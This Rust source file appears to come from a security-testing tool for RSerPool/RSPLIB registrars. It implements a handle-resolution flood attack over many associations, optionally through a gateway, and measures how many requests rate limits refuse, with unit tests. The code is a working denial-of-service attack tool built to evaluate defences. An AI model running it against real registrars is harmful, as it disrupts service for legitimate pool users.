//! `hr-flood` (the papers' handle-resolution attack): Handle Resolutions
//! at a rate. RSPLIB's `-maxhrrate` limits them per association and pool
//! and answers the excess like an unknown pool (cause 9). With
//! `--registrar-url` the resolutions go through the gateway as a browser's
//! would: its per-session limit refuses the excess with `rate-limited`.

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::Result;
use client_core::gateway_protocol::NoticeCode;
use client_core::policy::Rng;
use client_core::wire::{consts, AsapMessage};
use rserpool_client::RegistrarChannel;

use super::pool_user_path::{self, Heard, Path, Via};
use super::{Act, Attack, Common, Ctx};
use crate::bounds;
use crate::fields;
use crate::messages;
use crate::output::Output;
use crate::stop::Stop;

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// Registrars' ASAP endpoints.
    #[command(flatten)]
    pub common: Common,
    /// Associations to spread the resolutions over (round robin; each
    /// connects to the targets in turn), at most 64.
    #[arg(long, value_name = "N", default_value_t = 1)]
    pub associations: usize,
    /// Items asked for (RSPLIB's option 0x803f); none: the registrar's
    /// default (3).
    #[arg(long, value_name = "N")]
    pub items: Option<u32>,
    #[command(flatten)]
    pub via: Via,
}

/// Interval of the sample lines.
const SAMPLE: std::time::Duration = std::time::Duration::from_millis(250);

/// One sample line from the running totals `(answered, refused)` at the
/// interval's start and end. Refused: answered as an unknown pool by the
/// registrar, or not forwarded by the gateway (`rate-limited`).
fn interval_sample(
    (a0, r0): (u64, u64),
    (a1, r1): (u64, u64),
) -> serde_json::Map<String, serde_json::Value> {
    let (answered, refused) = (a1.saturating_sub(a0), r1.saturating_sub(r0));
    let mut m = fields! {
        "attacker_answered" => answered,
        "attacker_refused" => refused,
    };
    if answered + refused > 0 {
        m.insert(
            "attacker_answered_share".into(),
            (answered as f64 / (answered + refused) as f64).into(),
        );
    }
    m
}

#[derive(Default)]
struct Answers {
    answered: AtomicU64,
    /// Refused by the registrar (cause 9) or by the gateway.
    refused: AtomicU64,
    /// Of those, refused by the gateway (its notices).
    gateway_refused: AtomicU64,
}

impl Answers {
    fn count(&self, heard: &Heard) {
        match heard {
            Heard::Asap(AsapMessage::HandleResolutionResponse(r)) => {
                let refused = r.error.as_ref().is_some_and(|e| {
                    e.causes
                        .iter()
                        .any(|c| c.code.0 == consts::cause_code::UNKNOWN_POOL_HANDLE)
                });
                let counter = if refused {
                    &self.refused
                } else {
                    &self.answered
                };
                counter.fetch_add(1, Ordering::Relaxed);
            }
            // A refusal of anything but a resolution is not one of these.
            Heard::Refused {
                code: NoticeCode::RateLimited,
                ..
            } => {
                self.refused.fetch_add(1, Ordering::Relaxed);
                self.gateway_refused.fetch_add(1, Ordering::Relaxed);
            }
            _ => {}
        }
    }
}

struct HrFlood {
    channels: Vec<(Arc<RegistrarChannel>, Path)>,
    message: Vec<u8>,
}

impl Attack for HrFlood {
    async fn act(&mut self, seq: u64, _rng: &mut Rng, _out: &Output) -> Result<Act> {
        let k = (seq % self.channels.len() as u64) as usize;
        let (channel, path) = &self.channels[k];
        channel.send_asap(&self.message).await?;
        let mut f = fields! {"target" => path.target.to_string(), "association" => k};
        if let Some(url) = &path.via {
            f.insert("via".into(), url.clone().into());
        }
        Ok(("handle-resolution", f))
    }
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let mut notes = Vec::new();
    let n = bounds::clamp_usize(
        "associations",
        a.associations,
        bounds::MAX_ASSOCIATIONS,
        &mut notes,
    );
    for note in notes {
        ctx.out.event(
            "clamped",
            serde_json::json!({"what": note.what, "asked": note.asked, "used": note.used}),
        );
    }
    let paths_and_trust = a
        .via
        .paths(&ctx.targets)
        .and_then(|p| Ok((p, a.via.gateway()?)));
    let Some(channels) = ctx
        .setup(async {
            let (paths, gateway) = paths_and_trust?;
            let mut v = Vec::new();
            // Through the gateway each association is a session of its own.
            for k in 0..n {
                let p = paths[k % paths.len()].clone();
                v.push((Arc::new(pool_user_path::connect(&p, &gateway).await?), p));
            }
            Ok(v)
        })
        .await
    else {
        return Ok(());
    };
    let answers = Arc::new(Answers::default());
    let readers: Vec<_> = channels
        .iter()
        .map(|(channel, _)| {
            let (channel, answers) = (channel.clone(), answers.clone());
            tokio::spawn(async move {
                while let Ok(heard) = pool_user_path::recv(&channel).await {
                    answers.count(&heard);
                }
            })
        })
        .collect();
    // Every 250 ms: what the registrar answered in the interval, and the
    // share answered with PEs (the catalogue's attacker_answered_share).
    let sampler = {
        let (answers, out) = (answers.clone(), ctx.out.clone());
        tokio::spawn(async move {
            let mut tick = tokio::time::interval(SAMPLE);
            tick.tick().await;
            let mut last = (0, 0);
            loop {
                tick.tick().await;
                let now = (
                    answers.answered.load(Ordering::Relaxed),
                    answers.refused.load(Ordering::Relaxed),
                );
                out.sample(interval_sample(last, now));
                last = now;
            }
        })
    };
    let mut attack = HrFlood {
        channels,
        message: messages::handle_resolution(&ctx.pool, a.items),
    };
    let f = super::run_paced(&mut attack, &mut ctx, false).await;
    // Answers still in flight.
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    sampler.abort();
    for r in readers {
        r.abort();
    }
    super::done(
        &ctx,
        f,
        fields! {
            "answered" => answers.answered.load(Ordering::Relaxed),
            "refused" => answers.refused.load(Ordering::Relaxed),
            "gateway_refused" => answers.gateway_refused.load(Ordering::Relaxed),
        },
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_sample_counts_the_interval_and_its_share_answered_with_pes() {
        let m = interval_sample((10, 4), (13, 5));
        assert_eq!(m["attacker_answered"], 3);
        assert_eq!(m["attacker_refused"], 1);
        assert_eq!(m["attacker_answered_share"], 0.75);
        // Nothing came back in the interval: no share (not 0, not NaN).
        let quiet = interval_sample((13, 5), (13, 5));
        assert!(!quiet.contains_key("attacker_answered_share"));
    }

    #[test]
    fn a_gateway_rate_limit_counts_as_refused_and_other_notices_do_not() {
        let a = Answers::default();
        let notice = |code| Heard::Refused {
            code,
            text: String::new(),
        };
        a.count(&notice(NoticeCode::RateLimited));
        a.count(&notice(NoticeCode::ReportRefused));
        a.count(&Heard::Asap(AsapMessage::HandleResolutionResponse(
            client_core::wire::HandleResolutionResponse {
                pool_handle: client_core::wire::PoolHandle(b"EchoPool".to_vec()),
                policy: None,
                elements: vec![],
                error: None,
            },
        )));
        let get = |c: &AtomicU64| c.load(Ordering::Relaxed);
        assert_eq!(get(&a.answered), 1);
        assert_eq!(get(&a.refused), 1);
        assert_eq!(get(&a.gateway_refused), 1);
    }
}
